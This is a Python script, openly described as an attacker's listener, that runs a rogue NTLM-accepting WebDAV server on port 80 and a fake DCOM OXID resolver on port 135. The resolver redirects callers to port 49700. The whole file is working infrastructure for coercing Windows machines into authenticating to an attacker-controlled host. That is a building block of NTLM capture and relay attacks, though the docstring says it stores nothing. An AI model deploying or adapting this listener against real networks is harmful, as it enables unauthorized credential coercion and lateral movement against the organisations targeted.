#!/usr/bin/env python3
"""The attacker's listener where impacket's smbserver cannot be one: WebDAV and DCOM.

It takes any NTLM logon and keeps nothing: HTTP on 80 with NTLM, an OXID resolver on 135 that sends
its callers to 49700, and an object there.

usage: listener.py ADDRESS
"""

import base64
import socket
import struct
import sys
import threading

import methods
from callback import OXID_RESOLVER, REM_UNKNOWN
from dcerpc_server import OP_RANGE_ERROR, RpcConnection
from ntlm_server import NtlmServer
from rpc_proxy import read_head

ADDRESS = sys.argv[1]
OBJECT_PORT = 49700


def serve_http(connection):
    stream = connection.makefile("rb")
    exchange = None
    try:
        while True:
            _, _, headers = read_head(stream)
            kind, _, token = headers.get("authorization", "").partition(" ")
            status, extra = "401 Unauthorized", "WWW-Authenticate: NTLM\r\n"
            if kind.upper() == "NTLM":
                exchange = exchange or NtlmServer("EVIL")
                challenge = exchange.step(base64.b64decode(token))
                if challenge:
                    extra = f"WWW-Authenticate: NTLM {base64.b64encode(challenge).decode()}\r\n"
                else:
                    status, extra = "200 OK", "DAV: 1,2\r\nMS-Author-Via: DAV\r\n"
            elif exchange and exchange.ok is not None:
                status, extra = "404 Not Found", ""
            answer = f"HTTP/1.1 {status}\r\n{extra}Content-Length: 0\r\n\r\n"
            connection.sendall(answer.encode())
    except (EOFError, OSError, ValueError):
        connection.close()


def dispatch(interface, opnum, stub, about):
    bindings = methods.dual_string_array(f"{ADDRESS}[{OBJECT_PORT}]" if opnum == 4 else ADDRESS)
    array = struct.pack("<I", (len(bindings) - 4) // 2) + bindings
    array += bytes(-len(array) % 4)
    version = struct.pack("<HH", 5, 7)
    if interface == OXID_RESOLVER[0] and opnum == 5:  # ServerAlive2
        return version + struct.pack("<I", 0x20000) + array + bytes(8)
    if interface == OXID_RESOLVER[0] and opnum == 4:  # ResolveOxid2
        identity = bytes(range(16)) + struct.pack("<I", 4)
        return struct.pack("<I", 0x20000) + array + identity + version + bytes(4)
    return OP_RANGE_ERROR


def serve_rpc(connection, port):
    about = {"transport": "ncacn_ip_tcp", "port": port}
    interfaces = {OXID_RESOLVER[0], REM_UNKNOWN[0]}
    read = lambda: connection.recv(65536)
    RpcConnection(read, connection.sendall, interfaces, dispatch, about, str(port)).serve()
    connection.close()


def accept_forever(port, handle, arguments):
    listener = socket.create_server((ADDRESS, port))
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=handle, args=(connection, *arguments), daemon=True).start()


for number in (135, OBJECT_PORT):
    threading.Thread(target=accept_forever, args=(number, serve_rpc, (number,)), daemon=True).start()
accept_forever(80, serve_http, ())
